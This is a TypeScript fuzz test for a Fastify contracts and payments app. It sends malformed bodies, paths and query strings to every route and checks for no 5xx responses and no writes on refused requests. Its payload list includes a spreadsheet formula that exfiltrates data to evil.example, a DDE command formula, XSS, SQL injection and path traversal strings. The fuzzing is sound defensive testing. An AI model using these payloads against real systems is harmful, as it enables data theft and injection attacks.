// Fuzzing every route of the app (collected as they are registered, so a new route is covered without
// a word here): wrong types, huge strings and arrays, deep nesting, NULs and control characters, numbers
// out of range and formula/HTML payloads, in bodies, query strings and paths, on the database under
// test. Never a 5xx, and a request refused (4xx) writes nothing: the main tables read the same before
// and after it. fast-check with a fixed seed and a bounded number of runs: the same requests every run.
import fc from 'fast-check';
import type { FastifyInstance, FastifyServerOptions, RouteOptions } from 'fastify';
import { sql } from 'kysely';
import { Browser, loggedInBrowser } from '../helpers/browser';
import type { TestApp } from '../helpers/test-app';
import {
  agreement,
  bank,
  card,
  contractsTestApp,
  createContract,
  customer,
  facilityIdOf,
  put,
  RIVERSIDE,
} from '../contracts/contract-fixtures';
import { linkTokenTo } from '../customer/customer-fixtures';
import { paymentResource } from '../../../src/server/resources/payment';
import { resourceNamed } from '../../../src/server/resources/registry';

/** Every route as Fastify registers it (method, full url, schema, config): see the mock of 'fastify'. */
const mockRoutes: RouteOptions[] = [];
jest.mock('fastify', () => {
  const actual = jest.requireActual('fastify');
  const withRouteList = (options: FastifyServerOptions) => {
    const app = actual(options) as FastifyInstance;
    app.addHook('onRoute', (route) => void mockRoutes.push(route));
    return app;
  };
  return Object.assign(withRouteList, actual, { fastify: withRouteList, default: withRouteList });
});

const SEED = 20261126;
/** Requests per route: enough to reach every kind of bad value, bounded so a run stays well under a minute. */
const RUNS_PER_WRITE_ROUTE = 40;
const RUNS_PER_READ_ROUTE = 12;
const RUNS_PER_QUERY_PARSING_ROUTE = 80;
/** Reads that parse their query string by hand (the generic resource API): the most requests. */
const PARSES_QUERY = /\/crud\/(:resource|payment)$/;
/** Routes that end or change the fuzzing session itself (the session's own requests stay valid). */
const SESSION_ENDING = new Set(['GET /auth/logout']);
/** Failed logins count towards the address's limit: the routes that log in go last. */
const LOGS_IN = /^POST \/auth\/(login|verify_multifactor|new_password|change_password)$/;

let t: TestApp;
let riverside: number;
let contractId: number;
let linkToken: string;

// About 1,500 requests: 15 s on SQLite, 25 s on PostgreSQL on a quiet machine.
jest.setTimeout(120_000);

beforeAll(async () => {
  t = await contractsTestApp();
  riverside = await facilityIdOf(t.db, RIVERSIDE);
  const admin = await loggedInBrowser(t.app, 'facility-admin@example.com');
  contractId = (await createContract(admin, riverside)).id;
  // A select contract waiting for the customer's application: a live customer link to fuzz.
  let select = await createContract(admin, riverside, { ...customer(), is_select: true } as never);
  select = (await put(admin, select, { action: 'SKIP-CSR' })).json().contract;
  await put(admin, select, {
    contract: { ...customer(), ...agreement({ contract_type: 2, number_of_payments: 6 }) },
    section: 'agreementForSelect',
  });
  const sent = await admin.post('/api/request_agreement_application_completion', {
    contract_id: select.id,
    method: 'email',
  });
  expect(sent.statusCode).toBe(200);
  linkToken = await linkTokenTo(t.db, customer().customer_email, 'application');
}, 60_000);
afterAll(() => t.close());

// ---------------------------------------------------------------------------------------------------
// What the database holds: counts of the tables a request may write, and the contracts' last change.

const WATCHED = [
  'contracts', 'banks', 'cards', 'contract_status_history', 'contract_notes', 'idempotency_keys',
  'card_charges', 'change_of_information', 'payments', 'contract_documents', 'customer_links',
  'customer_consents', 'outbox', 'jobs', 'provider_events', 'users', 'permissions', 'terms_acceptances',
]; // prettier-ignore

const SNAPSHOT = sql.raw(
  `select ${WATCHED.map((table) => `(select count(*) from ${table}) as ${table}`).join(', ')},
    (select max(modified_on) from contracts) as contracts_modified_on,
    (select count(*) from customer_links where used_on is not null or disabled_on is not null) as links_used,
    (select max(password_hash) from users) as password_hashes`,
);

async function snapshot(): Promise<string> {
  const { rows } = await SNAPSHOT.execute(t.db);
  return JSON.stringify(rows[0], (_k, v) => (typeof v === 'bigint' ? String(v) : v));
}

// ---------------------------------------------------------------------------------------------------
// Bad values.

const HUGE_STRING = 'A'.repeat(200_000);
const OVER_BODY_LIMIT = 'B'.repeat(3_200_000);
const HUGE_ARRAY = Array.from({ length: 100_000 }, (_, i) => i);
const deepObject = (depth: number): unknown => (depth === 0 ? 'x' : { a: deepObject(depth - 1) });
const DEEP_OBJECT = deepObject(40);
/** Nested deeper than a recursive walk survives; sent as text (JSON.stringify itself would overflow). */
const DEEP_TEXT = `{"text":${'['.repeat(200_000)}${']'.repeat(200_000)}}`;

const outOfRange = fc.constantFrom(
  2 ** 31,
  2 ** 31 - 1,
  2 ** 53,
  2 ** 53 + 2,
  1e308,
  -1,
  0,
  1.5,
  -(2 ** 31) - 1,
  -1e308,
  Number.MIN_VALUE,
);
const numericText = fc.constantFrom(
  '2147483648',
  '9007199254740992',
  '1e308',
  '-1',
  '0',
  '1.5',
  'NaN',
  'Infinity',
  '-0',
  '0x10',
  '',
  ' 1',
  '１２',
);
const CONTROL = ['\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u001b', '\u007f', '\ud800', '\udfff'];
const controlText = fc
  .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...CONTROL), fc.string({ maxLength: 8 }))
  .map(([a, c, b]) => `${a}${c}${b}`);
const formulaOrHtml = fc.constantFrom(
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table contracts; --",
  '%00',
  '../../etc/passwd',
);
const wrongType = fc.oneof(
  fc.constantFrom(null, true, false, [], {}, [null], [1, 'a'], { $gt: '' }, { __proto__x: 1 }),
  fc.jsonValue({ maxDepth: 2 }),
);
const huge = fc.constantFrom<unknown>(
  HUGE_STRING,
  HUGE_ARRAY,
  DEEP_OBJECT,
  Array(5000).fill(HUGE_STRING.slice(0, 100)),
);

const badValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: outOfRange, weight: 3 },
  { arbitrary: numericText, weight: 3 },
  { arbitrary: controlText, weight: 3 },
  { arbitrary: formulaOrHtml, weight: 2 },
  { arbitrary: wrongType, weight: 3 },
  { arbitrary: huge, weight: 1 },
);

/** In a query string everything is text: the numbers and near-numbers are what parsers get wrong. */
const badQueryValue: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: outOfRange, weight: 4 },
  { arbitrary: numericText, weight: 4 },
  { arbitrary: controlText, weight: 2 },
  { arbitrary: formulaOrHtml, weight: 1 },
  { arbitrary: wrongType, weight: 1 },
  { arbitrary: huge, weight: 1 },
);

// ---------------------------------------------------------------------------------------------------
// Plausible requests, from each route's schema and what this app's fields mean.

const customerLike = () => ({ ...customer(), modified_on: new Date().toISOString() });
const PLAUSIBLE: Record<string, () => unknown> = {
  contract_id: () => contractId,
  contractId: () => contractId,
  id: () => contractId,
  facility_id: () => riverside,
  client_id: () => null,
  impersonate_id: () => null,
  text: () => 'Called the customer.',
  email: () => 'nobody@example.com',
  credentials: () => ({ email: 'nobody@example.com' }),
  password: () => 'not-the-password',
  password2: () => 'not-the-password',
  current_password: () => 'not-the-password',
  token: () => linkToken,
  reason_for_cancel: () => '1',
  filename: () => 'signed.pdf',
  b64: () => 'JVBERi0xLjQK',
  payment_amount: () => 10,
  contract: customerLike,
  banks: () => [bank()],
  cards: () => [card()],
  action: () => 'SAVE',
  section: () => 'customer',
  first_name: () => 'Jordan',
  last_name: () => 'Approve',
  dob: () => '1980-04-02',
  address: () => '12 Elm Street',
  city: () => 'Dayton',
  state: () => 'OH',
  zip: () => '45402',
  signature_name: () => 'Jordan Approve',
  document_sha256: () => 'a'.repeat(64),
  code: () => '123456',
  agree: () => false,
  resource: () => 'change_of_information',
  kind: () => 'contract',
  status_field: () => 'status',
  aba: () => '021000021',
};
/** Fields a body may carry that its schema does not name (the generic POST /api/crud/{resource}). */
const EXTRA_FIELDS = [
  'contract_id', 'idempotency_key', 'is_personal_info_change', 'is_cancellation', 'is_billing_date_change',
  'customer_first_name', 'customer_email', 'customer_zip', 'date_of_cancel', 'reason_for_cancel',
  'next_payment_due_date', 'text', 'facility_id', 'id',
]; // prettier-ignore
const CONTRACT_FIELDS = [
  'customer_first_name', 'customer_last_name', 'customer_email', 'customer_date_of_birth', 'customer_zip',
  'customer_ssn', 'customer_phone2', 'facility_id', 'id', 'client_id', 'modified_on', 'cash_price',
  'number_of_payments', 'finance_rate_percent', 'first_payment_due_date', 'agreement_code', 'contract_type',
  'is_select', 'current_rewrite_id',
]; // prettier-ignore
/** Query parameters that ride along on any route (stripped where the schema does not know them). */
const OTHER_QUERY_FIELDS = ['contract_id', 'facility_id', 'limit', 'offset', 'search', 'to', 'last_fetched'];

/**
 * The query parameters a route reads: its schema's, and for the generic resource API those the
 * resource takes (every search_{field}, its filters, search and status where it has them).
 */
function queryNamesOf(route: Route, resourceName: string): string[] {
  const names = Object.keys(route.query);
  const resource = route.url.endsWith('/crud/payment')
    ? paymentResource
    : route.url.endsWith('/:resource')
      ? resourceNamed(resourceName)
      : undefined;
  if (resource) {
    names.push(...resource.fields.filter((f) => f.searchable !== false).map((f) => `search_${f.name}`));
    names.push(...Object.keys(resource.filters ?? {}));
    if (resource.anySearch) names.push('search');
    if (resource.namedQueries) names.push('status');
  }
  return names.length > 0 ? names : OTHER_QUERY_FIELDS;
}
const METHOD_FIELDS = [
  'id', 'aba_number', 'account_number', 'bank_name', 'first_name_on_account', 'card_number', 'expiration',
  'cvc', 'name_on_card', 'zip_code', 'preferred',
]; // prettier-ignore
const RESOURCES = [
  'contract',
  'contract_search',
  'change_of_information',
  'note',
  'payment',
  'facility',
  'client',
];

interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  enum?: unknown[];
  anyOf?: JsonSchema[];
}

function plausible(name: string, schema: JsonSchema | undefined): unknown {
  if (PLAUSIBLE[name]) return PLAUSIBLE[name]();
  if (schema?.enum) return schema.enum[0];
  const type = Array.isArray(schema?.type) ? schema.type[0] : (schema?.type ?? schema?.anyOf?.[0]?.type);
  switch (type) {
    case 'integer':
    case 'number':
      return 1;
    case 'boolean':
      return false;
    case 'array':
      return [];
    case 'object':
      return {};
    default:
      return 'x';
  }
}

const propertiesOf = (schema: unknown) =>
  ((schema as JsonSchema | undefined)?.properties ?? {}) as Record<string, JsonSchema>;

interface Route {
  method: string;
  url: string;
  params: Record<string, JsonSchema>;
  query: Record<string, JsonSchema>;
  body: Record<string, JsonSchema>;
  takesBody: boolean;
}

function routesOf(list: RouteOptions[]): Route[] {
  const routes: Route[] = [];
  for (const r of list) {
    for (const method of [r.method].flat()) {
      if (method === 'HEAD' || SESSION_ENDING.has(`${method} ${r.url}`)) continue;
      const schema = (r.schema ?? {}) as Record<string, unknown>;
      const paramNames = [...r.url.matchAll(/:(\w+)/g)].map((m) => m[1]);
      routes.push({
        method,
        url: r.url,
        params: Object.fromEntries(paramNames.map((p) => [p, propertiesOf(schema.params)[p] ?? {}])),
        query: propertiesOf(schema.querystring),
        body: propertiesOf(schema.body),
        takesBody: method !== 'GET',
      });
    }
  }
  const key = (r: Route) => `${r.method} ${r.url}`;
  return routes.sort((a, b) => Number(LOGS_IN.test(key(a))) - Number(LOGS_IN.test(key(b))));
}

type Mutation =
  | { kind: 'field'; name: string; value: unknown }
  | { kind: 'nested'; name: string; value: unknown }
  | { kind: 'item'; list: 'banks' | 'cards'; name: string; value: unknown }
  | { kind: 'body'; value: unknown }
  | { kind: 'raw'; text: string }
  | { kind: 'param'; name: string; value: unknown }
  | { kind: 'query'; pick: number; value: unknown };

const rawText = fc.constantFrom(
  '{"text":',
  '{"a":1}{',
  'null',
  '"\\u0000"',
  '[',
  '',
  DEEP_TEXT,
  JSON.stringify({ text: OVER_BODY_LIMIT }),
);

function mutationsFor(route: Route): fc.Arbitrary<Mutation[]> {
  const own = Object.keys(route.body);
  const options: fc.WeightedArbitrary<Mutation>[] = [];
  const add = (weight: number, arbitrary: fc.Arbitrary<Mutation>) => options.push({ weight, arbitrary });
  const field = (names: string[]) =>
    fc.record({ kind: fc.constant('field' as const), name: fc.constantFrom(...names), value: badValue });
  if (route.takesBody) {
    // Mostly one of the route's own fields, the rest of the body plausible: the requests reach the handler.
    if (own.length > 0) add(6, field(own));
    add(own.length > 0 ? 1 : 4, field(EXTRA_FIELDS));
    add(
      own.includes('contract') ? 4 : 1,
      fc.record({
        kind: fc.constant('nested' as const),
        name: fc.constantFrom(...CONTRACT_FIELDS),
        value: badValue,
      }),
    );
    add(
      own.includes('banks') || own.includes('cards') ? 3 : 1,
      fc.record({
        kind: fc.constant('item' as const),
        list: fc.constantFrom('banks' as const, 'cards' as const),
        name: fc.constantFrom(...METHOD_FIELDS),
        value: badValue,
      }),
    );
    add(1, fc.record({ kind: fc.constant('body' as const), value: badValue }));
    add(1, fc.record({ kind: fc.constant('raw' as const), text: rawText }));
  }
  const paramNames = Object.keys(route.params);
  if (paramNames.length > 0) {
    add(
      2,
      fc.record({
        kind: fc.constant('param' as const),
        name: fc.constantFrom(...paramNames),
        value: badValue,
      }),
    );
  }
  if (Object.keys(route.query).length > 0 || PARSES_QUERY.test(route.url) || !route.takesBody) {
    add(
      PARSES_QUERY.test(route.url) ? 6 : 3,
      fc.record({ kind: fc.constant('query' as const), pick: fc.nat(), value: badQueryValue }),
    );
  }
  return fc.array(fc.oneof(...options), { minLength: 1, maxLength: 2 });
}

const asText = (value: unknown): string =>
  typeof value === 'string' ? value : (JSON.stringify(value) ?? '');

/** Percent-encoding; a lone surrogate becomes the bytes of one (not UTF-8: the server must cope). */
const encode = (text: string) =>
  text.replace(/[\s\S]/gu, (ch) => {
    try {
      return encodeURIComponent(ch);
    } catch {
      return '%ED%A0%80';
    }
  });

interface BuiltRequest {
  method: string;
  url: string;
  payload?: string;
  headers: Record<string, string>;
}

function build(route: Route, mutations: Mutation[], resource: string): BuiltRequest {
  const params: Record<string, string> = {};
  for (const name of Object.keys(route.params)) {
    params[name] = name === 'resource' ? resource : String(plausible(name, route.params[name]));
  }
  const query: [string, string][] = [];
  const setQuery = (name: string, value: string) => {
    for (let i = query.length - 1; i >= 0; i--) if (query[i][0] === name) query.splice(i, 1);
    query.push([name, value]);
  };
  for (const [name, schema] of Object.entries(route.query)) {
    if (name === 'output_format') continue;
    if (PLAUSIBLE[name] || (schema as JsonSchema).enum) setQuery(name, String(plausible(name, schema)));
  }
  if (route.url.endsWith('/crud/payment')) setQuery('contract_id', String(contractId));
  const queryNames = queryNamesOf(route, resource);
  let body: unknown = Object.fromEntries(Object.entries(route.body).map(([n, s]) => [n, plausible(n, s)]));
  let raw: string | undefined;
  for (const m of mutations) {
    const object =
      body !== null && typeof body === 'object' && !Array.isArray(body)
        ? (body as Record<string, unknown>)
        : null;
    switch (m.kind) {
      case 'field':
        if (object) object[m.name] = m.value;
        break;
      case 'nested':
        if (object) object.contract = { ...(object.contract as object), [m.name]: m.value };
        break;
      case 'item':
        if (object) object[m.list] = [{ ...(m.list === 'banks' ? bank() : card()), [m.name]: m.value }];
        break;
      case 'body':
        body = m.value;
        break;
      case 'raw':
        raw = m.text;
        break;
      case 'param':
        if (m.name in params) params[m.name] = asText(m.value);
        break;
      case 'query': {
        const name = queryNames[m.pick % queryNames.length];
        if (Array.isArray(m.value) && m.value.length < 10) {
          setQuery(name, '');
          query.pop();
          for (const v of m.value) query.push([name, asText(v)]);
        } else {
          setQuery(name, asText(m.value));
        }
        break;
      }
    }
  }
  const path = route.url.replace(/:(\w+)/g, (_, name: string) => encode(params[name] ?? ''));
  const search = query.map(([name, value]) => `${encode(name)}=${encode(value)}`).join('&');
  const request: BuiltRequest = {
    method: route.method,
    url: search ? `${path}?${search}` : path,
    headers: {},
  };
  if (route.takesBody) {
    request.payload = raw ?? JSON.stringify(body) ?? 'null';
    request.headers['content-type'] = 'application/json';
  }
  return request;
}

/** What a failure report shows of a request: no megabytes of 'A'. */
const shown = (text: string | undefined) =>
  text === undefined ? '' : text.length > 300 ? `${text.slice(0, 300)}… (${text.length} chars)` : text;

/** One request: its problems, if any, as lines of the failure report. */
async function probe(browser: Browser, route: Route, mutations: Mutation[], resource: string) {
  const request = build(route, mutations, resource);
  const headers: Record<string, string> = { ...request.headers };
  if (browser.sid) headers.cookie = `sid=${browser.sid}`;
  if (browser.csrfToken) headers['csrf-token'] = browser.csrfToken;
  const before = await snapshot();
  const response = await t.app.inject({
    method: request.method as 'GET',
    url: request.url,
    headers,
    ...(request.payload !== undefined ? { payload: request.payload } : {}),
  });
  const status = response.statusCode;
  const what = `${request.method} ${shown(request.url)} ${shown(request.payload)}\n  → ${status}`;
  if (status >= 500) return [`${what} ${shown(response.body)}`];
  if (status < 400) return [];
  const problems: string[] = [];
  const after = await snapshot();
  if (after !== before) problems.push(`${what} but wrote: ${before} → ${after}`);
  let message: unknown;
  try {
    message = response.json().message;
  } catch {
    message = undefined;
  }
  if (typeof message !== 'string') problems.push(`${what} without a message`);
  return problems;
}

test('no route answers a 5xx to bad input, and a refused request writes nothing', async () => {
  const routes = routesOf(mockRoutes);
  // The route list is what Fastify registered: a sanity check that the collection works.
  const names = routes.map((r) => `${r.method} ${r.url}`);
  expect(names).toEqual(
    expect.arrayContaining(['POST /api/note/:contractId', 'PUT /api/crud/contract/:id', 'POST /auth/login']),
  );
  expect(names.some((n) => n.startsWith('POST /api/customer/links/:token/'))).toBe(true);

  const failures: string[] = [];
  let requests = 0;
  for (const route of routes) {
    // A fresh session per route: a request that changed the last one (facility, impersonation) is forgotten.
    let browser: Browser;
    try {
      browser = await loggedInBrowser(t.app, 'developer@example.com');
    } catch {
      browser = new Browser(t.app); // logins refused by now (the login routes are fuzzed last)
      await browser.getUser();
    }
    const runs = PARSES_QUERY.test(route.url)
      ? RUNS_PER_QUERY_PARSING_ROUTE
      : route.takesBody
        ? RUNS_PER_WRITE_ROUTE
        : RUNS_PER_READ_ROUTE;
    await fc.assert(
      fc.asyncProperty(mutationsFor(route), fc.constantFrom(...RESOURCES), async (mutations, resource) => {
        requests++;
        try {
          failures.push(...(await probe(browser, route, mutations, resource)));
        } catch (error) {
          // Kept short: fast-check would print the whole counterexample (megabytes of 'A').
          failures.push(`${route.method} ${route.url}: the test itself failed: ${shown(String(error))}`);
        }
      }),
      { seed: SEED, numRuns: runs },
    );
  }
  expect(failures).toEqual([]);
  expect(requests).toBeGreaterThan(routes.length * RUNS_PER_READ_ROUTE);
});
